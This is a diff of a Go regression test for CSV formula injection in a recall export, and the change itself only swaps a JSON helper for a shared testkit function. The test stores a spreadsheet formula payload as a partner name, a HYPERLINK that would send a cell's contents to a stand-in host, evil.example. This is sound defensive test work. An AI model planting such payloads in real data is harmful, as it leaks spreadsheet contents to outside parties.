@@ -11,6 +11,7 @@ import (
 	"github.com/serialine/serialine/central/auth"
 	"github.com/serialine/serialine/central/store"
 	"github.com/serialine/serialine/central/store/storetest"
+	"github.com/serialine/serialine/internal/testkit"
 )
 
 // TestRecallCSVFormulaInjection is issue 17's attack 9 on the recall
@@ -22,7 +23,7 @@ func TestRecallCSVFormulaInjection(t *testing.T) {
 	e := newEnv(t, storetest.SQLiteDSN(t))
 	f := e.fixture(t)
 	const evil = `=HYPERLINK("https://evil.example/?leak="&A2,"open")`
-	resp := e.as(t, auth.RolePlanner, req{method: "PUT", path: "/api/v1/partners/" + f.partnerGLN, body: mustJSON(t, map[string]any{"name": evil})})
+	resp := e.as(t, auth.RolePlanner, req{method: "PUT", path: "/api/v1/partners/" + f.partnerGLN, body: testkit.MustJSON(t, map[string]any{"name": evil})})
 	require.Equal(t, http.StatusOK, resp.status, "%s", resp.body)
 	_, units := e.shipment(t, f, nil, true)
 	rc, err := e.s.CreateRecall(e.ctx, store.RecallRequest{GTIN: gtinRand, Serials: units, Reason: "complaint"})
